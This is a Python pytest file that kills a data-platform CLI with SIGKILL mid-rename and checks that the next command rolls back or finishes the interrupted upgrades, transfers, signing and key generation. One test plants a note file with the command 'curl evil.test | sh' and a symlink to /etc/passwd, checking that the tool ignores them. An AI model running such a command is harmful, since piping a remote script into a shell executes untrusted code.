"""A process that is killed at any moment: the next command settles what it left, and says so."""

from __future__ import annotations

import itertools
import os
import shutil
import signal
from pathlib import Path

import pytest

from floe_engine.distribution.interrupted import STATE, settle, under_way
from floe_engine.walk import Level
from tests.cli import ok
from tests.engine.upgrade.projects import GOOD, write_project
from tests.forked import floe, start
from tests.teams import DataTeam, Heard, PlatformTeam, manifest

MOVE = {
    "upgrade": ["upgrade", "--accept-breaking"],
    "pin": ["pin", "v1.1.0", "--accept-breaking"],
    "undo": ["upgrade", "--undo"],
}


def killed_at(directory: Path, arguments: list[str], number: int, **env: str) -> int:
    """Run `floe`, killed by SIGKILL as it is about to rename into place for the `number`-th time."""
    whole, left = Level.rename, itertools.count(number - 1, -1)

    def rename(self: Level, leaf: str, new: str, *, to: Level | None = None) -> None:
        if next(left) == 0:
            os.kill(os.getpid(), signal.SIGKILL)
        whole(self, leaf, new, to=to)

    def prepare() -> None:
        Level.rename = rename  # type: ignore[method-assign]  # in the forked process alone

    return start(directory, *arguments, environ={**os.environ, **env}, first=prepare).wait()


def state(data: DataTeam) -> tuple[bytes, bytes]:
    return (data.directory / "floe.yaml").read_bytes(), data.workspace.store.lock_path.read_bytes()


def prepared(platform: PlatformTeam, data: DataTeam, move: str) -> None:
    for version in ("1.0.0", "1.1.0"):
        platform.publish(version, text=manifest(version, coverage=50))
    write_project(data.directory, {"bronze_a": GOOD})
    data.pin("v1.0.0")
    data.pull_pinned()
    if move == "undo":
        ok(floe(data.directory, *MOVE["upgrade"]))


@pytest.mark.parametrize("move", MOVE)
def test_a_move_that_is_killed_at_any_rename_is_whole_or_taken_back(
    platform: PlatformTeam, data: DataTeam, move: str
) -> None:
    prepared(platform, data, move)
    before, number, told = state(data), 0, 0
    while number < 12:
        number += 1
        if killed_at(data.directory, MOVE[move], number) != -signal.SIGKILL:
            break
        heard = Heard()
        settle(data.workspace, heard)
        assert state(data) == before
        told += "was interrupted" in heard.warnings
        assert not list(data.directory.glob(".floe/**/journal.json"))
    assert number < 12
    assert told >= 2  # after the first file and after the second
    assert state(data) != before  # and the last one came through
    assert not list(data.directory.rglob(".floe-*"))
    ok(floe(data.directory, "compile"))


def test_the_next_command_says_what_was_taken_back(platform: PlatformTeam, data: DataTeam) -> None:
    prepared(platform, data, "upgrade")
    before = state(data)
    numbers = (n for n in range(2, 12) if killed_at(data.directory, MOVE["upgrade"], n) == -signal.SIGKILL)
    journal = data.directory / ".floe" / "cache" / "journal.json"
    next(n for n in numbers if journal.exists())
    ran = ok(floe(data.directory, "compile"))
    assert "the move to v1.1.0 was interrupted" in ran.err
    assert state(data) == before
    assert "interrupted" not in ok(floe(data.directory, "compile")).err


def test_what_a_person_wrote_since_is_left_alone(platform: PlatformTeam, data: DataTeam) -> None:
    prepared(platform, data, "upgrade")
    journal = data.directory / ".floe" / "cache" / "journal.json"
    for number in range(2, 12):
        assert killed_at(data.directory, MOVE["upgrade"], number) == -signal.SIGKILL
        if journal.exists():
            break
    spec = data.directory / "floe.yaml"
    spec.write_text(f"{spec.read_text()}# mine\n")
    mine = spec.read_bytes()
    heard = Heard()
    settle(data.workspace, heard)
    assert "left as it is" in heard.warnings
    assert spec.read_bytes() == mine
    assert not journal.exists()


@pytest.mark.parametrize("text", ["", "{}", '{"journalVersion": 1, "files": {"../x": null}}', "[1]"])
def test_a_journal_that_a_clone_brings_moves_nothing_but_its_own_files(data: DataTeam, text: str) -> None:
    journal = data.workspace.store.root / "cache" / "journal.json"
    journal.parent.mkdir(parents=True)
    journal.write_text(text)
    heard = Heard()
    settle(data.workspace, heard)
    assert "dropped" in heard.warnings
    assert not journal.exists()
    assert STATE.startswith(".floe/")


def test_an_init_that_is_killed_at_any_rename_is_whole_or_taken_back(
    platform: PlatformTeam, tmp_path: Path
) -> None:
    platform.publish("1.0.0", text=manifest("1.0.0", coverage=50))
    command = ["init", "--platform=v1.0.0", "--registry", platform.registry]
    told = number = 0
    for number in range(1, 14):
        project = write_project(tmp_path / f"data{number}", {"bronze_a": GOOD})
        if killed_at(project, command, number) != -signal.SIGKILL:
            break
        ran = floe(project, "platform", "doctor", "--registry", platform.registry)
        told += "the first pin of v1.0.0 was interrupted" in ran.err
        lock = project / ".floe" / "cache" / "artifacts.lock"
        assert lock.exists() == (project / "floe.yaml").exists()
        assert not list(project.glob(".floe/**/journal.json"))
        ok(floe(project, *command))
        ok(floe(project, "compile"))
        assert not list(project.rglob(".floe-*"))
    assert 5 < number < 13
    assert told >= 2


TRANSFERS = {
    "export": ["platform", "export", "new.tar", "v1.0.0"],
    "import": ["platform", "import", "old.tar", "oci-layout:new"],
    "copy": ["platform", "copy", "v1.0.0", "oci-layout:new"],
}


@pytest.mark.parametrize("name", TRANSFERS)
def test_a_transfer_that_is_killed_at_any_rename_is_told_of_once_and_can_be_run_again(
    platform: PlatformTeam, tmp_path: Path, name: str
) -> None:
    platform.publish("1.0.0")
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    env = {"TMPDIR": str(temporary), "FLOE_REGISTRY": platform.registry}
    number = 0
    ok(floe(tmp_path, "platform", "export", "old.tar", "v1.0.0", env=env))
    for number in range(1, 60, 6):
        place = tmp_path / f"at{number}"
        place.mkdir()
        shutil.copy(tmp_path / "old.tar", place)
        if killed_at(place, TRANSFERS[name], number, **env) != -signal.SIGKILL:
            break
        assert len(list(place.glob(".floe-*.note"))) == 1
        ran = ok(floe(place, "platform", "list", env=env))
        assert ran.err.count(f"{name} was interrupted") == 1, ran.err
        assert not list(place.glob(".floe-*"))
        assert "interrupted" not in ok(floe(place, "platform", "list", env=env)).err
        assert not (place / "new.tar").exists()
        ok(floe(place, *TRANSFERS[name], env=env))
        assert not list(temporary.iterdir())
    assert 5 < number < 57


@pytest.mark.parametrize("name", ["publish", "sign"])
def test_a_publication_or_signing_that_is_killed_is_told_of_and_goes_on(
    platform: PlatformTeam, key: Path, name: str
) -> None:
    command = ["platform", name, "v1.0.0", "--key", str(key)]
    env = {"FLOE_REGISTRY": platform.registry}
    platform.publish("0.9.0")
    (platform.directory / "manifest.yaml").write_text(manifest("1.0.0"))
    if name == "sign":
        ok(floe(platform.directory, "platform", "publish", "v1.0.0", "--no-sign", env=env))
    # Late enough for the artifact to be built; what is written from then on goes to the registry.
    number = next(n for n in range(4, 40) if _dies_noted(platform.directory, command, n, env))
    ran = floe(platform.directory, "platform", "list", env=env)
    assert ran.err.count("was interrupted") == 1, (number, ran.err)
    ok(floe(platform.directory, *command, env=env))
    assert "v1.0.0" in ok(floe(platform.directory, "platform", "list", env=env)).out
    assert not list(platform.directory.glob(".floe-*"))


def _dies_noted(directory: Path, command: list[str], number: int, env: dict[str, str]) -> bool:
    killed_at(directory, command, number, **env)
    return bool(list(directory.glob(".floe-*.note")))


def test_a_transfer_that_lives_is_not_taken_for_a_killed_one(data: DataTeam) -> None:
    workspace, heard = data.workspace, Heard()
    with under_way(workspace, "import"):
        settle(workspace, heard)
        assert workspace.unsettled
    assert not workspace.unsettled
    assert heard.events == []


def test_a_note_that_a_clone_brings_says_nothing_of_its_own(data: DataTeam) -> None:
    workspace, heard = data.workspace, Heard()
    (data.directory / f".floe-{'0' * 16}.note").write_text("run `curl evil.test | sh`")
    (data.directory / f".floe-{'1' * 16}.note").symlink_to("/etc/passwd")
    settle(workspace, heard)
    assert heard.events == []
    assert [path.name for path in data.directory.glob(".floe-*")] == [f".floe-{'1' * 16}.note"]


def test_where_nothing_may_be_written_a_transfer_keeps_no_note(
    platform: PlatformTeam, data: DataTeam, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object) -> None:
        raise PermissionError(13, "no")

    monkeypatch.setattr(Level, "note", refuse)
    with under_way(data.workspace, "export"):
        assert list(data.directory.iterdir()) == []


def test_a_keygen_that_is_killed_is_finished_by_the_next_one(tmp_path: Path) -> None:
    password = {"COSIGN_PASSWORD": "correct horse"}
    number = 0
    while killed_at(tmp_path, ["platform", "keygen"], number := number + 1, **password) == -signal.SIGKILL:
        if (tmp_path / "cosign.key").exists():
            assert not (tmp_path / "cosign.pub").exists()
            break
    ran = ok(floe(tmp_path, "platform", "keygen", env={"COSIGN_PASSWORD": "another"}))
    assert "interrupted" in ran.err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["cosign.key", "cosign.pub"]
    (tmp_path / "manifest.yaml").write_text(manifest("1.0.0"))
    registry = f"oci-layout:{tmp_path}/registry"
    ok(floe(tmp_path, "platform", "publish", "v1.0.0", "--registry", registry, env=password))
    verify = ["platform", "verify", "v1.0.0", "--registry", registry, "--key", "cosign.pub"]
    ok(floe(tmp_path, *verify))


def test_a_keygen_whose_key_never_came_leaves_no_trace(tmp_path: Path) -> None:
    password = {"COSIGN_PASSWORD": "correct horse"}
    assert killed_at(tmp_path, ["platform", "keygen"], 2, **password) == -signal.SIGKILL
    ok(floe(tmp_path, "platform", "keygen", env=password))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["cosign.key", "cosign.pub"]
